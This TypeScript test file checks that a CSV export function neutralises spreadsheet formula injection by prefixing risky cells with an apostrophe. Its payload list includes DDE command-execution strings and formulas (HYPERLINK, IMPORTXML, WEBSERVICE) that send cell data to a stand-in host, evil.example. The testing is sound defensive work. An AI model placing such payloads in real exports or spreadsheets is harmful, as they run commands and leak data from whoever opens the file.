import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvCell } from '../../collector/export/cell.ts';
import { parseCsv } from '../support/csv.ts';

const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const payloads = [
  // Every start alone, with a formula, and after what programs skip.
  ...starts.flatMap((start) => [
    start,
    `${start}1+1`,
    ` ${start}1+1`,
    `\u00A0${start}1+1`,
    `\u200B${start}1+1`,
  ]),
  ...['\t', '\r', '\n', '\0', '\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', '\0=1+1', '\x01=1+1', '\x1F@SUM(A1)'],
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "=cmd|'/c calc'!A0",
  "+cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=WEBSERVICE("https://evil.example")',
  '\uFEFF=1+1',
  '\u2060\u200E=1+1',
  "'=1+1",
  "''=1+1",
  "'\t=1+1",
];

/** What a spreadsheet does with a field: a leading apostrophe means text, and is not part of it. */
const read = (cell: string): string => parseCsv(`${cell}\r\n`)[0]?.[0] ?? '';

test('there are sixty payloads or more', () => {
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(60);
});

describe('a spreadsheet runs nothing', () => {
  test.each(payloads)('%j', (payload) => {
    const opened = read(csvCell(payload));
    expect(opened).toBe(`'${payload}`);
  });
});

describe('what is no formula stays as it is', () => {
  test.each([
    '',
    'good',
    '1-2',
    'a=b',
    'me@example.com',
    '"=1+1"',
    'x\n=1+1',
    "it's",
    "'quoted'",
    '５',
    '🙂',
  ])('%j', (text) => {
    expect(read(csvCell(text))).toBe(text);
  });

  test('numbers and truth values are never formulas', () => {
    expect([-5, -0.5, 0, 1e21, true, false].map((value) => read(csvCell(value)))).toEqual([
      '-5',
      '-0.5',
      '0',
      '1e+21',
      'true',
      'false',
    ]);
  });

  test('what is not known is an empty field', () => {
    expect(csvCell(undefined)).toBe('""');
  });
});

test('any text comes back when one apostrophe that we put is taken away', () => {
  const anything = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string({
      unit: fc.constantFrom("'", '=', '+', '-', '@', ' ', '\t', '\r', '\n', '"', ',', ';', 'x', '＝'),
    }),
  );
  fc.assert(
    fc.property(anything, (text) => {
      const opened = read(csvCell(text));
      expect([text, `'${text}`]).toContain(opened);
      // No field begins with what runs, whatever a program skips before it.
      expect(opened).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
      expect(opened).not.toMatch(/^[\t\r\n\0]/);
    }),
    { numRuns: 2_000 },
  );
});

test('no two texts share a field', () => {
  const unit = fc.constantFrom("'", '=', ' ', 'x');
  fc.assert(
    fc.property(fc.string({ unit, maxLength: 4 }), fc.string({ unit, maxLength: 4 }), (one, other) => {
      expect(csvCell(one) === csvCell(other)).toBe(one === other);
    }),
    { numRuns: 5_000 },
  );
});
